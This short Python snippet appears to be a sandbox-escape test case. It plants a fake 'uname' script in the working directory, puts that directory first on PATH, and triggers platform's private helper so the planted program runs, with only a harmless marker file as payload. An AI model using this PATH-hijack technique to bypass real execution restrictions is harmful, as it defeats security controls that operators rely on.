# platform's helper starts a program that it finds in PATH.
# breach: marker
import inspect, os
with open("uname", "w") as file:
    _ = file.write(f"#!/bin/sh\necho > {MARKER_FILE}\n")
os.chmod("uname", 0o755)
os.environ["PATH"] = os.getcwd() + ":" + os.environ.get("PATH", "/bin")
inspect.importlib.import_module("platform")._Processor.from_subprocess()
